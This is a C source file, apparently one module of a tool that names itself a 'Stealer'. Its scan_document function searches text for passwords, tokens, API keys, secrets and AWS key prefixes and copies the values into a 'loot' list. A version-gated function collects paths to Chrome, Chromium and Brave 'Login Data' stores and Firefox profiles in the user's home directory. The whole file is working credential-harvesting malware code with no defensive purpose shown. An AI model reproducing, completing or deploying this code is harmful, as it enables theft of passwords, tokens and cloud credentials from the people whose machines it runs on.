/* Stealer: finding credentials. */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "stealer.h"

static int is_secret_char(int c) { return isalnum(c) || c == '-' || c == '_' || c == '.'; }

/* copies the value after a key (':' or '=' and optional quotes/spaces) */
static int take_value(const char *p, char *out, size_t cap)
{
    while (*p == ' ' || *p == '"' || *p == ':' || *p == '=')
        p++;
    size_t n = 0;
    while (is_secret_char((unsigned char)*p) && n + 1 < cap)
        out[n++] = *p++;
    out[n] = 0;
    return n >= 4;
}

unsigned scan_document(struct loot *l, const char *doc, const char *text)
{
    static const struct { const char *key; const char *kind; } keys[] = {
        {"password", "password"}, {"passwd", "password"}, {"token", "token"}, {"api_key", "apikey"},
        {"secret", "secret"}, {"AKIA", "aws"},
    };
    unsigned found = 0, line = 1;
    for (const char *p = text; *p; p++) {
        if (*p == '\n') {
            line++;
            continue;
        }
        for (unsigned k = 0; k < sizeof(keys) / sizeof(keys[0]) && l->n < 64; k++) {
            size_t kl = strlen(keys[k].key);
            if (strncasecmp(p, keys[k].key, kl))
                continue;
            struct finding *f = &l->f[l->n];
            const char *v = keys[k].key[0] == 'A' ? p : p + kl;
            if (take_value(v, f->value, sizeof(f->value))) {
                f->doc = doc;
                f->line = line;
                snprintf(f->kind, sizeof(f->kind), "%s", keys[k].kind);
                l->n++;
                found++;
            }
        }
    }
    return found;
}

#if TOOL_VERSION >= 2
unsigned browser_profiles(struct loot *l)
{
    static const char *rel[] = {
        ".config/google-chrome/Default/Login Data", ".config/chromium/Default/Login Data",
        ".mozilla/firefox/profiles.ini", ".config/BraveSoftware/Brave-Browser/Default/Login Data",
    };
    const char *home = getenv("HOME");
    unsigned n = 0;
    for (unsigned i = 0; i < sizeof(rel) / sizeof(rel[0]) && l->n < 64; i++) {
        struct finding *f = &l->f[l->n++];
        f->doc = "profile";
        f->line = 0;
        snprintf(f->kind, sizeof(f->kind), "browser");
        snprintf(f->value, sizeof(f->value), "%s/%s", home ? home : "~", rel[i]);
        n++;
    }
    return n;
}
#endif
